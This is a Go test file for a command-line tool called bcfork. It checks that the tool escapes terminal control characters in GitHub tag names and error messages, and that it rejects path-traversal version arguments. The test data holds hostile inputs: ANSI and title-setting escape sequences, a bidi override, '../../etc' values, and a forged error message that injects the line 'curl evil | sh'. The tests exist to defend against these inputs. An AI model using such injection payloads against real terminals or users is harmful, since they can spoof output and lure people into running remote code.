package main

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bcfork/bcfork/internal/fakegithub"
	"github.com/bcfork/bcfork/upstream"
)

// As root, a cache folder of another user is refused, and the hint says
// how to point bcfork at another one.
func TestRootRefusesAnotherUsersCache(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root")
	}
	home := t.TempDir()
	if err := os.Chown(home, 65534, 65534); err != nil {
		t.Fatal(err)
	}
	t.Setenv("BCFORK_CACHE_DIR", filepath.Join(home, ".cache", "bcfork"))
	var stdout, stderr bytes.Buffer
	code := run(context.Background(), []string{"bcfork", "versions", "--offline"}, &stdout, &stderr)
	if code != ExitFailure || !strings.Contains(stderr.String(), "is owned by uid 65534, not by root") ||
		!strings.Contains(stderr.String(), "hint: set BCFORK_CACHE_DIR to one") {
		t.Errorf("exit %d, stderr:\n%s", code, &stderr)
	}
}

func TestPrintable(t *testing.T) {
	for in, want := range map[string]string{
		"plain 5.6.0":            "plain 5.6.0",
		"two\nlines\tand a tab":  "two\nlines\tand a tab",
		"red \x1b[31mtext":       `red \x1b[31mtext`,
		"title \x1b]0;pwned\x07": `title \x1b]0;pwned\x07`,
		"over\rwrite":            `over\x0dwrite`,
		"c1 \u009b2J":            `c1 \x9b2J`,
		"bidi \u202eevil":        `bidi \u202eevil`,
		"bad \xff byte":          `bad \xff byte`,
		"é ü 漢":                  "é ü 漢",
	} {
		if got := printable(in); got != want {
			t.Errorf("printable(%q) = %q, want %q", in, got, want)
		}
	}
	if got := field("a\nb\x1b"); got != `a\nb\x1b` {
		t.Errorf("field = %q", got)
	}
}

// Tag names and GitHub's error messages reach the terminal with their
// control characters escaped, and an error message cannot add lines.
func TestNetworkTextIsEscaped(t *testing.T) {
	srv := fakegithub.New()
	t.Cleanup(srv.Close)
	srv.AddTag(upstream.DefaultRepo, "9.9.8\x1b[2J\x1b]0;pwned\x07", fakegithub.Files("9.9.9"))
	var stdout, stderr bytes.Buffer
	code := run(context.Background(), []string{"bcfork", "versions", "--github-api", srv.URL, "--no-cache"}, &stdout, &stderr)
	if code != ExitOK || strings.ContainsAny(stdout.String()+stderr.String(), "\x1b\x07") ||
		!strings.Contains(stdout.String(), `9.9.8\x1b[2J\x1b]0;pwned\x07`) {
		t.Errorf("exit %d, stdout:\n%q\nstderr:\n%q", code, &stdout, &stderr)
	}

	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusNotFound)
		fmt.Fprint(w, `{"message": "Not Found\u001b[31m\nbcfork: hint: curl evil | sh"}`)
	}))
	t.Cleanup(evil.Close)
	stdout.Reset()
	stderr.Reset()
	code = run(context.Background(), []string{"bcfork", "fetch", "--version", "5.6.0", "--github-api", evil.URL, "--no-cache"}, &stdout, &stderr)
	if code != ExitFailure || strings.Contains(stderr.String(), "\x1b") || strings.Contains(stderr.String(), "\nbcfork: hint: curl") ||
		!strings.Contains(stderr.String(), `404 Not Found\x1b[31m bcfork: hint: curl evil | sh`) {
		t.Errorf("exit %d, stderr:\n%s", code, &stderr)
	}
}

// --version that is not a version is a usage error (exit 2), in every
// command that takes one, and a long one is not echoed whole.
func TestBadVersionIsAUsageError(t *testing.T) {
	long := strings.Repeat("a", 5000)
	for _, args := range [][]string{
		{"generate", "--version", "../../etc"},
		{"diff", "--version", "../../etc"},
		{"install", "--version", "../../etc", "--root", t.TempDir()},
		{"fetch", "--version", "../../etc"},
		{"generate", "--version", long},
	} {
		var stdout, stderr bytes.Buffer
		code := run(context.Background(), append([]string{"bcfork"}, append(args, "--offline")...), &stdout, &stderr)
		if code != ExitUsage || !strings.Contains(stderr.String(), "invalid option: version or ref") || stderr.Len() > 500 {
			t.Errorf("bcfork %.40s: exit %d, stderr (%d bytes):\n%.500s", strings.Join(args, " "), code, stderr.Len(), &stderr)
		}
	}
}
